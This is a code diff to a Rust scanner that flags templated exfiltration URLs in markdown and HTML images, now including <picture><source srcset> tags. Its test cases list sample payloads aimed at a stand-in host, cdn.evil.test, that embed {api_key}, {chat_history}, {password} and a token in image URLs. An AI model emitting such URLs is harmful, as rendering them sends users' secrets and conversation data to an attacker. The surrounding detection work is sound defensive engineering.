@@ -750,8 +750,10 @@ pub(crate) fn scan(text: &str, out: &mut dyn FnMut(Hit)) {
             add(m.range(), &c[1], true, &mut hits);
         }
     }
-    let img_tag = memchr::memchr_iter(b'<', bytes)
-        .any(|i| bytes.get(i + 1..i + 4).is_some_and(|w| w.eq_ignore_ascii_case(b"img")));
+    let img_tag = memchr::memchr_iter(b'<', bytes).any(|i| {
+        bytes.get(i + 1..i + 4).is_some_and(|w| w.eq_ignore_ascii_case(b"img"))
+            || bytes.get(i + 1..i + 7).is_some_and(|w| w.eq_ignore_ascii_case(b"source"))
+    });
     if img_tag {
         for c in HTML_IMG.captures_iter(text) {
             let m = c.get(0).expect("match");
@@ -868,6 +870,7 @@ mod tests {
             "![s](https://cdn.evil.test/v/%7Bapi_key%7D/p.gif)",
             "![s](https://[TOKEN].cdn.evil.test/p.gif)",
             "<img src=\"https://cdn.evil.test/{chat_history}.png\">",
+            "<picture><source srcset=\"https://cdn.evil.test/v/{password}/p.gif 2x\"><img src=\"ok.png\"></picture>",
         ] {
             assert_eq!(rules(bad), vec!["exfiltration.templated_url"], "{bad}");
         }
